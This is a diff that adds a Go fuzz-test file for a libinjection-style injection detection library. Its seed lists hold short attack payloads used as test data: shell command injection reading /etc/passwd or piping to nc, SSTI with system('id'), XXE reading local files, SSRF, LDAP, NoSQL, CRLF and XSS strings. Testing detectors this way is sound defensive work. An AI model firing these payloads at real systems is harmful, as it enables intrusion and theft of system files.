@@ -0,0 +1,282 @@
+//go:build go1.18
+// +build go1.18
+
+package libinjection
+
+import (
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+/*
+ * Fuzz targets for the tokenizers, the folder and the detectors. The seed
+ * corpus is the input of every upstream test in tests/, or a few payloads
+ * for the detectors upstream doesn't have. Run one with e.g.
+ *
+ *	go test -run '^$' -fuzz FuzzSQLiTokenize
+ *
+ * Besides not panicking, every target checks results are deterministic and
+ * tokens stay inside the input.
+ */
+
+/* every pass libinjection_is_sqli may run */
+var fuzzFlags = []int{
+	FLAG_QUOTE_NONE | FLAG_SQL_ANSI,
+	FLAG_QUOTE_NONE | FLAG_SQL_MYSQL,
+	FLAG_QUOTE_SINGLE | FLAG_SQL_ANSI,
+	FLAG_QUOTE_SINGLE | FLAG_SQL_MYSQL,
+	FLAG_QUOTE_DOUBLE | FLAG_SQL_ANSI,
+	FLAG_QUOTE_DOUBLE | FLAG_SQL_MYSQL,
+}
+
+func addSeeds(f *testing.F, pattern string) {
+	files, err := filepath.Glob(filepath.Join("tests", pattern))
+	if err != nil {
+		f.Fatal(err)
+	}
+	for _, file := range files {
+		input, _ := readTestFile(f, file)
+		f.Add(input)
+	}
+}
+
+func fuzzPass(n uint8) int {
+	return fuzzFlags[int(n)%len(fuzzFlags)]
+}
+
+func checkToken(t *testing.T, input string, token *Token) {
+	t.Helper()
+	if token.pos < 0 || token.Len < 0 || token.pos+token.Len > len(input) {
+		t.Fatalf("token %c %q out of bounds: pos %d, len %d, input length %d", token.Type, token.val, token.pos, token.Len, len(input))
+	}
+	if token.Len != len(token.val) || token.Len >= LIBINJECTION_SQLI_TOKEN_SIZE {
+		t.Fatalf("token %c %q: len %d", token.Type, token.val, token.Len)
+	}
+}
+
+func FuzzSQLiTokenize(f *testing.F) {
+	addSeeds(f, "test-*.txt")
+	f.Fuzz(func(t *testing.T, input string) {
+		for _, flags := range fuzzFlags {
+			tokens := Tokenize(input, flags)
+			if len(tokens) > len(input)+1 {
+				t.Fatalf("%d tokens for %d bytes", len(tokens), len(input))
+			}
+			for i := range tokens {
+				checkToken(t, input, &tokens[i])
+			}
+			if again := Tokenize(input, flags); !reflect.DeepEqual(tokens, again) {
+				t.Fatalf("flags %d: not deterministic", flags)
+			}
+		}
+	})
+}
+
+func FuzzSQLiFold(f *testing.F) {
+	addSeeds(f, "test-folding-*.txt")
+	addSeeds(f, "test-sqli-*.txt")
+	f.Fuzz(func(t *testing.T, input string) {
+		for _, flags := range fuzzFlags {
+			sqli := &Sqli{state: newState(input, len(input), flags)}
+			/* failed assertion errors are fine, panics are not */
+			fplen, err := sqli.libinjection_sqli_fold()
+			if err != nil {
+				continue
+			}
+			/*
+			 * one more than LIBINJECTION_SQLI_MAX_TOKENS: like the C
+			 * libinjection_sqli_fold, the "{" "``" rule returns left + 2
+			 * without clamping, e.g. for "0A0 00A{`"
+			 */
+			if fplen < 0 || fplen > LIBINJECTION_SQLI_MAX_TOKENS+1 {
+				t.Fatalf("flags %d: folded to %d tokens", flags, fplen)
+			}
+			for i := 0; i < fplen; i++ {
+				token := &sqli.state.tokenvec[i]
+				/* folding rewrites some values, e.g. "UNION ALL" */
+				if token.Len != len(token.val) || token.Len >= LIBINJECTION_SQLI_TOKEN_SIZE {
+					t.Fatalf("token %c %q: len %d", token.Type, token.val, token.Len)
+				}
+			}
+
+			again := &Sqli{state: newState(input, len(input), flags)}
+			againlen, _ := again.libinjection_sqli_fold()
+			if againlen != fplen || again.state.tokenvec != sqli.state.tokenvec {
+				t.Fatalf("flags %d: not deterministic", flags)
+			}
+		}
+	})
+}
+
+func FuzzIsSQLi(f *testing.F) {
+	addSeeds(f, "test-sqli-*.txt")
+	f.Fuzz(func(t *testing.T, input string) {
+		issqli, fingerprint := IsSQLi(input)
+		if issqli && fingerprint == "" {
+			t.Fatal("injection without a fingerprint")
+		}
+		if len(fingerprint) > LIBINJECTION_SQLI_MAX_TOKENS {
+			t.Fatalf("fingerprint %q too long", fingerprint)
+		}
+		if again, againfp := IsSQLi(input); again != issqli || againfp != fingerprint {
+			t.Fatalf("not deterministic: %v %q, then %v %q", issqli, fingerprint, again, againfp)
+		}
+		if result := DetectSQLi(input); result.Injection != issqli {
+			t.Fatalf("DetectSQLi says %v, IsSQLi %v", result.Injection, issqli)
+		}
+		for _, flags := range fuzzFlags {
+			DetectSQLiFlags(input, flags)
+		}
+		if is, fp := sqliFromPasses(SQLiPasses(input)); is != issqli || fp != fingerprint {
+			t.Fatalf("SQLiPasses says %v %q, IsSQLi %v %q", is, fp, issqli, fingerprint)
+		}
+	})
+}
+
+func FuzzH5Tokenize(f *testing.F) {
+	addSeeds(f, "test-html5-*.txt")
+	f.Fuzz(func(t *testing.T, input string) {
+		for _, flags := range []int{DATA_STATE, VALUE_NO_QUOTE, VALUE_SINGLE_QUOTE, VALUE_DOUBLE_QUOTE, VALUE_BACK_QUOTE} {
+			hs := newH5State(input, len(input), flags)
+			n := 0
+			for hs.libinjection_h5_next() {
+				if hs.token_start < 0 || hs.token_len < 0 || hs.token_start+hs.token_len > len(input) {
+					t.Fatalf("flags %d: token out of bounds: start %d, len %d, input length %d", flags, hs.token_start, hs.token_len, len(input))
+				}
+				/* every token but the last consumes input */
+				if n++; n > len(input)+2 {
+					t.Fatalf("flags %d: %d tokens for %d bytes", flags, n, len(input))
+				}
+			}
+		}
+	})
+}
+
+/*
+ * The detector targets are one table, fuzzed by FuzzDetect: the first
+ * argument picks the detector, the second is its input. Every detector must
+ * be deterministic, agree with its IsX wrapper and keep its fingerprint in
+ * bounds; valid checks what the fingerprint says about the result.
+ */
+type fuzzDetector struct {
+	detector  Detector
+	is        func(string) (bool, string)
+	files     string /* seed pattern in tests/, if any */
+	seeds     []string
+	maxTokens int /* 0 for no bound */
+	valid     func(Result) bool
+}
+
+var fuzzDetectors = []fuzzDetector{
+	{
+		detector: SQLiDetector,
+		is:       IsSQLi,
+		files:    "test-sqli-*.txt",
+		valid:    func(r Result) bool { return !r.Injection || r.Fingerprint != "" },
+	},
+	{
+		detector: XSSDetector,
+		is:       func(input string) (bool, string) { return IsXSS(input), DetectXSS(input).Fingerprint },
+		files:    "test-html5-*.txt",
+	},
+	{
+		detector:  CmdiDetector,
+		is:        IsCmdi,
+		seeds:     []string{"127.0.0.1; id", "x'; id; echo '", "a \"$(id)\" `b`", ";cat${IFS}/etc/passwd", "& who^ami %COMSPEC%", "2>&1 | nc x 1"},
+		maxTokens: CMDI_MAX_TOKENS,
+		valid:     func(r Result) bool { return !r.Injection || cmdiFingerprints[r.Fingerprint] },
+	},
+	{
+		detector: NoSQLDetector,
+		is:       IsNoSQL,
+		seeds:    []string{`{"password": {"$ne": null}}`, "user[$gt]=&x=1", `{"$where": "sleep(1)"}`, `filter={"a":{"$in":[1]}}`},
+		valid:    func(r Result) bool { return r.Injection == nosqlOperators[r.Fingerprint] },
+	},
+	{
+		detector:  LDAPDetector,
+		is:        IsLDAP,
+		seeds:     []string{"*)(uid=*))(|(uid=*", "admin)(&)", "x)(:dn:2.5.13.5:=y", "Sm\\2ath", "admin)\x00"},
+		maxTokens: LDAP_MAX_TOKENS,
+		valid:     func(r Result) bool { return r.Injection == ldapFingerprints[r.Fingerprint] },
+	},
+	{
+		detector: TraversalDetector,
+		is:       IsTraversal,
+		seeds:    []string{"../../etc/passwd", "%252e%252e%252f", "..%c0%af", "php://filter/resource=x", `\\host\share`, "report.pdf"},
+		valid:    func(r Result) bool { return r.Injection == (r.Fingerprint != "") },
+	},
+	{
+		detector:  SSTIDetector,
+		is:        IsSSTI,
+		seeds:     []string{"{{7*7}}", "${T(java.lang.Runtime).getRuntime()}", "#set($x = 1)", "<%= system('id') %>", "{% if a %}", "{{name}}", "{{config.items()}}"},
+		maxTokens: SSTI_MAX_TOKENS,
+	},
+	{
+		detector:  XPathDetector,
+		is:        IsXPath,
+		seeds:     []string{"' or '1'='1", "'] | //user[", "count(/*)", "O'Brien", "x(:c:)\"y"},
+		maxTokens: XPATH_MAX_TOKENS,
+		valid:     func(r Result) bool { return r.Injection == xpathBlacklist(r.Fingerprint) },
+	},
+	{
+		detector: CRLFDetector,
+		is:       IsCRLF,
+		seeds:    []string{"%0d%0aSet-Cookie:%20a=1", "/%E5%98%8A%E5%98%8Dset-cookie:a=1", "x\r\n\r\nHTTP/1.1 200 OK", "line one\r\nline two"},
+		valid:    func(r Result) bool { return r.Injection == (r.Fingerprint != "") },
+	},
+	{
+		detector: SSRFDetector,
+		is:       IsSSRF,
+		seeds:    []string{"http://127.0.0.1/", "http://0x7f.1/", "http://evil.com\\@127.0.0.1/", "http://[fe80::1%25eth0]/", "http://127.0.0.1.nip.io/", "https://example.com/"},
+		valid:    func(r Result) bool { return r.Injection == (ssrfRank[r.Fingerprint] > 0) },
+	},
+	{
+		detector: XXEDetector,
+		is:       IsXXE,
+		seeds:    []string{`<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`, `<!DOCTYPE foo [<!ENTITY % d SYSTEM "http://x/"> %d;]>`, `<!DOCTYPE foo SYSTEM "http://x/x.dtd">`, `<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="x"/></foo>`, `<!DOCTYPE html><html/>`},
+		valid:    func(r Result) bool { return r.Injection == (r.Fingerprint != "") },
+	},
+	{
+		detector:  JSXSSDetector,
+		is:        IsJSXSS,
+		seeds:     []string{"';alert(1)//", "\"-alert(1)-\"", "${alert(1)}", "</script><script>alert(1)</script>", "/* a */ b // c", "O'Reilly"},
+		maxTokens: JS_MAX_TOKENS,
+	},
+}
+
+func FuzzDetect(f *testing.F) {
+	for i, d := range fuzzDetectors {
+		seeds := d.seeds
+		if d.files != "" {
+			files, err := filepath.Glob(filepath.Join("tests", d.files))
+			if err != nil {
+				f.Fatal(err)
+			}
+			for _, file := range files {
+				input, _ := readTestFile(f, file)
+				seeds = append(seeds, input)
+			}
+		}
+		for _, seed := range seeds {
+			f.Add(uint8(i), seed)
+		}
+	}
+	f.Fuzz(func(t *testing.T, n uint8, input string) {
+		d := fuzzDetectors[int(n)%len(fuzzDetectors)]
+		name := d.detector.Name()
+		result := d.detector.Detect(input)
+		if again := d.detector.Detect(input); again != result {
+			t.Fatalf("%s: not deterministic: %+v, then %+v", name, result, again)
+		}
+		if injection, fingerprint := d.is(input); injection != result.Injection || injection && fingerprint != result.Fingerprint {
+			t.Fatalf("%s: Detect says %+v, Is %v %q", name, result, injection, fingerprint)
+		}
+		if d.maxTokens > 0 && len(result.Fingerprint) > d.maxTokens {
+			t.Fatalf("%s: fingerprint %q too long", name, result.Fingerprint)
+		}
+		if d.valid != nil && !d.valid(result) {
+			t.Fatalf("%s: unexpected result %+v", name, result)
+		}
+	})
+}